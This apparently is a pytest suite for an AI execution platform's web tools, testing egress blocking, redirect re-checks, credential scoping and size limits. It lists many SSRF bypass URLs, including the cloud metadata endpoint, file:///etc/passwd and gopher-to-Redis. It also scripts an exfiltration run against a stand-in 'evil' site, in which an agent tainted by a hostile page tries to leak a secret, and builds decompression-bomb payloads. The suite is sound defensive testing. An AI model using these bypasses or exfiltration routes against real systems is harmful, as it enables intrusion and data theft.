"""The tools that call the web: what they fetch, where they do not go, and what a tainted run may still send."""

import asyncio
import os
import time
import zlib
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest

from execution_platform.exceptions import InvalidToolArguments, ToolDenied, ToolError
from execution_platform.tool_bridge.provenance import MOST_ADDRESSES, MOST_BYTES, Provenance
from execution_platform.tool_bridge.web import LARGEST
from execution_platform.transport.egress import EgressBlocked, EgressPolicy, check_url
from loops import in_loop
from tooling import Bench, bench
from websites import Site, reply, site


@asynccontextmanager
async def tools_for(folder: Path, *sites: Site, **http: Any) -> AsyncIterator[Bench]:
    """The tools, for which these sites are internal places."""
    made = bench(folder, {"http": {"internal": [f"127.0.0.1:{each.port}" for each in sites], **http}})
    try:
        yield made
    finally:
        await made.close()


PAGE = b"""<!doctype html><html><head><title>T</title><style>x{}</style></head><body><h1>Head &amp; more</h1>
<p>One <b>two</b> <a href="/next?a=1">next</a>.<script>alert(1)</script></p><img src="http://evil/x.png"><ul><li>A<li>B</ul>
<a href="javascript:alert(1)">bad</a><p>![x](http://evil.example/?q=1)</p></body></html>"""


@in_loop
async def test_a_page_is_shown_as_readable_text(tmp_path: Path) -> None:
    async with site(lambda path, body: reply(PAGE)) as web, tools_for(tmp_path, web) as tools:
        found = await tools.call("http_fetch", url=f"{web.url}/page")
        assert found["status"] == 200
        text = found["text"]
        assert "# Head & more" in text
        assert f"One two [next]({web.url}/next?a=1)." in text
        assert "- A" in text
        assert "alert" not in text
        assert "evil/x.png" not in text
        assert "![" not in text  # H4: nothing that loads by itself
        assert web.requests[0].startswith(b"GET /page HTTP/1.1\r\n")


@in_loop
async def test_a_long_text_is_fetched_in_parts(tmp_path: Path) -> None:
    whole = "".join(f"{number}\n" for number in range(30_000))
    async with site(lambda path, body: reply(whole.encode(), "text/plain")) as web, tools_for(tmp_path, web) as tools:
        first = await tools.call("http_fetch", url=web.url)
        second = await tools.call("http_fetch", url=web.url, offset=first["next_offset"])
        assert whole.startswith(first["text"] + second["text"])


@in_loop
async def test_an_api_is_called_with_a_body_and_headers(tmp_path: Path) -> None:
    async with site(lambda path, body: reply(body or b'{"got": 1}', "application/json")) as web:
        async with tools_for(tmp_path, web) as tools:
            assert (await tools.call("http_json", url=web.url))["json"] == {"got": 1}
            sent = await tools.call("http_json", url=web.url, method="POST", body={"a": [1]}, headers={"X-Api": "k"})
            assert sent["json"] == {"a": [1]}
            assert b"x-api: k" in web.requests[1].lower()
            posted = await tools.call("http_post", url=web.url, body="hello", content_type="application/json")
            assert posted["text"] == "hello"
            for name in ("Host", "Cookie", "X-Forwarded-For", "proxy-authorization", "a\r\nb"):
                with pytest.raises(InvalidToolArguments, match="not sent by tools"):
                    await tools.call("http_json", url=web.url, headers={name: "x"})


@in_loop
async def test_a_persona_that_only_reads_may_look_and_not_send(tmp_path: Path) -> None:
    async with site(lambda path, body: reply(b"{}", "application/json")) as web, tools_for(tmp_path, web) as tools:
        tools.level = "read_only"
        await tools.call("http_json", url=web.url)
        for tool, more in (("http_json", {"method": "DELETE"}), ("http_post", {"body": "x"})):
            with pytest.raises(ToolDenied, match="needs the permission level write"):
                await tools.call(tool, url=web.url, **more)
        assert len(web.requests) == 1


FORBIDDEN = [
    "http://127.0.0.1:{port}/",
    "http://localhost:{port}/",
    "http://0.0.0.0:{port}/",
    "http://0:{port}/",
    "http://0x7f.1:{port}/",
    "http://0x7f000001/",
    "http://017700000001/",
    "http://2130706433/",
    "http://127.1/",
    "http://127.0.0.01/",
    "http://①②⑦.⓪.⓪.①/",
    "http://[::1]/",
    "http://[::ffff:127.0.0.1]/",
    "http://[::ffff:7f00:1]/",
    "http://[::127.0.0.1]/",
    "http://[64:ff9b::7f00:1]/",
    "http://[64:ff9b:1::7f00:1]/",
    "http://[2002:7f00:1::]/",
    "http://[2001:0:7f00:1::]/",
    "http://[fe80::1]/",
    "http://[fec0::1]/",
    "http://[fc00::1]/",
    "http://[ff02::1]/",
    "http://[::]/",
    "http://169.254.169.254/latest/meta-data/",
    "http://169.254.170.2/",
    "http://168.63.129.16/",
    "http://100.100.100.200/",
    "http://100.64.0.1/",
    "http://10.0.0.1/",
    "http://172.16.0.1/",
    "http://192.168.0.1/",
    "http://198.18.0.1/",
    "http://192.0.2.1/",
    "http://224.0.0.1/",
    "http://255.255.255.255/",
    "http://240.0.0.1/",
    "https://127.0.0.1/",
    "http://user@example.com/",
    "http://user:pw@example.com/",
    "http://example.com@127.0.0.1/",
    "http://127.0.0.1#@example.com/",
    "http://example.com\\@127.0.0.1/",
    "http://example.com./",
    "http://127.0.0.1./",
    "http://example.com:22/",
    "http://example.com:6379/",
    "http://example.com:8080/",
    "http://example.com:0/",
    "http://example.com:99999/",
    "file:///etc/passwd",
    "gopher://127.0.0.1:6379/_INFO",
    "ftp://example.com/",
    "dict://127.0.0.1:11211/",
    "data:text/plain,x",
    "javascript:1",
    "//example.com/",
    "http:///x",
    "http://exa mple.com/",
    "http://example.com/\r\nHost: x",
    "",
]


@in_loop
async def test_no_spelling_of_a_forbidden_place_is_called(tmp_path: Path) -> None:
    """H1: sixty URLs, `egress_blocked`, and nothing was connected to."""
    async with site(lambda path, body: reply(b"canary")) as canary, tools_for(tmp_path) as tools:
        for url in FORBIDDEN:
            with pytest.raises(ToolDenied) as caught:
                await tools.call("http_fetch", url=url.format(port=canary.port))
            assert caught.value.code == "egress_blocked", url
        assert canary.requests == []
        assert len(tools.refused) == len(FORBIDDEN) >= 60


@in_loop
async def test_an_internal_place_is_reached_by_its_name_and_port_alone(tmp_path: Path) -> None:
    """H1: what an operator allows opens no other port and no other spelling."""
    async with site(lambda path, body: reply(b"a")) as one, site(lambda path, body: reply(b"b")) as two:
        async with tools_for(tmp_path, one) as tools:
            await tools.call("http_fetch", url=one.url)
            for url in (two.url, f"http://localhost:{one.port}/", f"http://[::ffff:127.0.0.1]:{one.port}/"):
                with pytest.raises(ToolDenied):
                    await tools.call("http_fetch", url=url)
        assert two.requests == []


@pytest.mark.parametrize(
    ("policy", "url", "allowed"),
    [
        ({"only": ("example.com", "*.example.org")}, "https://example.com/", True),
        ({"only": ("example.com", "*.example.org")}, "https://a.example.org/", True),
        ({"only": ("example.com", "*.example.org")}, "https://example.org/", False),
        ({"only": ("example.com", "*.example.org")}, "https://notexample.com/", False),
        ({"only": ()}, "https://example.com/", False),
        ({"blocked": ("*.example.org",)}, "https://a.EXAMPLE.org/", False),
        ({"blocked": ("*.example.org",)}, "https://example.com/", True),
    ],
)
def test_lists_of_hosts(policy: dict[str, Any], url: str, allowed: bool) -> None:
    try:
        check_url(url, EgressPolicy("tool", **policy))
    except EgressBlocked as error:
        assert not allowed
        assert "not allowed" in str(error)
    else:
        assert allowed


@in_loop
async def test_a_name_that_changes_its_mind_gains_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """H2: one look-up for a connection, whose address is the one that is dialled; mixed answers are refused."""
    import socket

    asked: list[str] = []
    rounds = [["10.0.0.1"], ["93.184.215.14", "127.0.0.1"], ["::1"]]

    async def getaddrinfo(self: object, host: str, port: int, **options: object) -> list[object]:
        asked.append(host)
        kind = {True: socket.AF_INET6, False: socket.AF_INET}
        return [(kind[":" in one], socket.SOCK_STREAM, 6, "", (one, port)) for one in rounds[len(asked) - 1]]

    async with tools_for(tmp_path) as tools:
        monkeypatch.setattr("asyncio.base_events.BaseEventLoop.getaddrinfo", getaddrinfo)
        for number in range(3):
            with pytest.raises(ToolDenied, match="not public"):
                await tools.call("http_fetch", url=f"https://rebind{number}.example/")
        assert len(asked) == 3


@in_loop
async def test_every_redirect_is_checked_again(tmp_path: Path) -> None:
    """H3."""
    targets = {
        "/meta": "http://169.254.169.254/",
        "/file": "file:///etc/passwd",
        "/gopher": "gopher://127.0.0.1/",
        "/other": "http://127.0.0.1:9/",
        "/loop": "/loop",
    }

    def answer(path: str, body: bytes) -> bytes:
        if path == "/there":
            return reply(b"arrived", "text/plain")
        return reply(b"", status=307, location=targets.get(path, "/there"))

    async with (
        site(answer) as web,
        site(lambda path, body: reply(b"x")) as second,
        tools_for(tmp_path, web, second) as tools,
    ):
        assert (await tools.call("http_fetch", url=f"{web.url}/ok"))["text"] == "arrived"
        for path in ("/meta", "/file", "/gopher", "/other"):
            with pytest.raises(ToolDenied) as caught:
                await tools.call("http_fetch", url=web.url + path)
            assert caught.value.code == "egress_blocked"
        before = len(web.requests)
        with pytest.raises(ToolError, match="more than 5 redirects"):
            await tools.call("http_fetch", url=f"{web.url}/loop")
        assert len(web.requests) - before == 6
        targets["/away"] = f"{second.url}/"
        with pytest.raises(ToolDenied, match="redirects the body to another host"):
            await tools.call("http_post", url=f"{web.url}/away", body="secret")
        assert second.requests == []


@in_loop
async def test_credentials_stay_with_the_host_they_were_for(tmp_path: Path) -> None:
    """H3."""
    async with site(lambda path, body: reply(b"{}", "application/json")) as second:
        async with site(lambda path, body: reply(b"", status=302, location=f"{second.url}/")) as web:
            async with tools_for(tmp_path, web, second) as tools:
                await tools.call(
                    "http_json", url=web.url, headers={"Authorization": "Bearer canary", "X-Key": "canary"}
                )
        assert b"canary" in web.requests[0]
        assert b"canary" not in second.requests[0]


SECRET = "zephyr"


def tainted() -> Provenance:
    return Provenance(private=True, untrusted=True)


@in_loop
async def test_a_tainted_run_sends_nothing_to_places_nobody_gave(tmp_path: Path) -> None:
    """H4: query, nested links letter by letter, body, and a search: the site learns nothing."""
    letters = b"".join(b'<a href="/l/%c">%c</a>' % (letter, letter) for letter in b"abcdefghijklmnopqrstuvwxyz")
    async with site(lambda path, body: reply(letters)) as evil:
        search = {"engine": "searxng", "url": evil.url}
        made = bench(tmp_path, {"http": {"internal": [f"127.0.0.1:{evil.port}"]}, "web_search": search})
        (tmp_path / "notes.txt").write_text(SECRET)
        await made.call("http_fetch", url=f"{evil.url}/start")
        await made.call("fs_read", path="notes.txt")
        assert made.provenance.tainted
        tries: list[tuple[str, dict[str, object]]] = [
            ("http_fetch", {"url": f"{evil.url}/?q={SECRET}"}),
            *(("http_fetch", {"url": f"{evil.url}/l/{letter}"}) for letter in SECRET),
            ("http_post", {"url": evil.url, "body": SECRET}),
            ("http_json", {"url": evil.url, "method": "PUT", "body": SECRET}),
            ("web_search", {"query": SECRET}),
        ]
        for tool, args in tries:
            with pytest.raises(ToolDenied) as caught:
                await made.call(tool, **args)
            assert caught.value.code == "exfil_blocked"
            assert SECRET not in caught.value.message
        assert len(evil.requests) == 1
        assert len(made.refused) == len(tries)
        await made.close()


@in_loop
async def test_a_tainted_run_may_call_what_the_user_or_an_operator_gave(tmp_path: Path) -> None:
    """H4: literally, and without a body."""
    async with site(lambda path, body: reply(b"ok", "text/plain")) as web, tools_for(tmp_path, web) as tools:
        tools.provenance = tainted()
        tools.provenance.give(f"Please read {web.url}/doc?x=1, and then ({web.url}/other).")
        await tools.call("http_fetch", url=f"{web.url}/doc?x=1#part")
        await tools.call("http_fetch", url=f"{web.url}/other")
        for url in (f"{web.url}/doc?x=2", f"{web.url}/doc", f"{web.url}/doc?x=1&y={SECRET}"):
            with pytest.raises(ToolDenied):
                await tools.call("http_fetch", url=url)
        with pytest.raises(ToolDenied):
            await tools.call("http_post", url=f"{web.url}/other", body=SECRET)
        async with tools_for(tmp_path, web, trusted=["127.0.0.1"]) as trusting:
            trusting.provenance = tainted()
            await trusting.call("http_post", url=f"{web.url}/any", body="x")


def test_a_run_has_caps_of_addresses_and_of_bytes() -> None:
    """H4."""
    run = Provenance()
    for number in range(MOST_ADDRESSES):
        run.check(f"https://example.com/{number}", trusted=False)
    run.check("https://example.com/0", trusted=False)
    with pytest.raises(ToolDenied, match="as much as a run may"):
        run.check("https://example.com/one-more", trusted=True)
    with pytest.raises(ToolDenied):
        Provenance().check("https://example.com/", trusted=True, size=MOST_BYTES)


def test_what_a_run_has_seen_survives_in_its_journal() -> None:
    run = tainted()
    run.give("https://example.com/a")
    run.check("https://example.com/a", trusted=False)
    assert Provenance.from_json(run.as_json()) == run
    assert Provenance.from_json({}) == Provenance()


async def drip() -> AsyncIterator[bytes]:
    yield b"HTTP/1.1 200 OK\r\ncontent-type: text/plain\r\n\r\n"
    for _ in range(100_000):
        yield b"x"
        await asyncio.sleep(0.02)


async def flood() -> AsyncIterator[bytes]:
    yield b"HTTP/1.1 200 OK\r\ncontent-type: text/plain\r\ncontent-length: 10000000000\r\n\r\n"
    for _ in range(100):
        yield b"x" * 1024 * 1024


async def long(size: int) -> AsyncIterator[bytes]:
    yield b"HTTP/1.1 200 OK\r\ncontent-type: text/plain\r\nconnection: close\r\n\r\n"
    for begin in range(0, size, 65536):
        yield b"x" * min(65536, size - begin)


@in_loop
async def test_an_answer_has_a_largest_size(tmp_path: Path) -> None:
    """H5."""
    async with site(lambda path, body: long(LARGEST + 1)) as web, tools_for(tmp_path, web) as tools:
        with pytest.raises(ToolError, match=f"over {LARGEST} bytes"):
            await tools.call("http_fetch", url=web.url)
    async with site(lambda path, body: long(LARGEST)) as web, tools_for(tmp_path, web) as tools:
        assert "text" in await tools.call("http_fetch", url=web.url)


BOMB = zlib.compress(b"0" * 50_000_000, 9)


@pytest.mark.parametrize(
    ("name", "answer"),
    [
        ("bomb", lambda: reply(BOMB, "text/plain", content_encoding="deflate")),
        ("gzip", lambda: reply(BOMB, "text/plain", content_encoding="gzip")),
        ("flood", flood),
        ("svg", lambda: reply(b"<svg onload=alert(1)>", "image/svg+xml")),
        ("png", lambda: reply(b"\x89PNG", "image/png")),
        ("pdf", lambda: reply(b"%PDF", "application/octet-stream")),
        ("drip", drip),
    ],
)
@in_loop
async def test_bombs_wrong_types_and_slow_bodies_end_in_bounds(
    tmp_path: Path, name: str, answer: Callable[[], Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    """H5."""
    monkeypatch.setattr("execution_platform.tool_bridge.plugins.SECONDS", 0.5)
    before = resident()
    started = time.monotonic()
    async with site(lambda path, body: answer()) as web, tools_for(tmp_path, web) as tools:
        with pytest.raises(ToolError) as caught:
            await tools.call("http_fetch", url=web.url)
        assert caught.value.code in {"tool_error", "invalid_args", "timeout"}
    assert time.monotonic() - started < 15
    assert resident() - before < 10 * 1024 * 1024


def resident() -> int:
    """Bytes of this process in memory."""
    return int(Path("/proc/self/statm").read_text().split()[1]) * os.sysconf("SC_PAGE_SIZE")


@in_loop
async def test_proxies_of_the_environment_are_not_used(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """H6."""
    async with site(lambda path, body: reply(b"proxied")) as proxy, site(lambda path, body: reply(b"direct")) as web:
        for name in ("HTTP_PROXY", "http_proxy", "HTTPS_PROXY", "ALL_PROXY"):
            monkeypatch.setenv(name, proxy.url)
        async with tools_for(tmp_path, web) as tools:
            assert (await tools.call("http_fetch", url=web.url))["text"] == "direct"
        assert proxy.requests == []
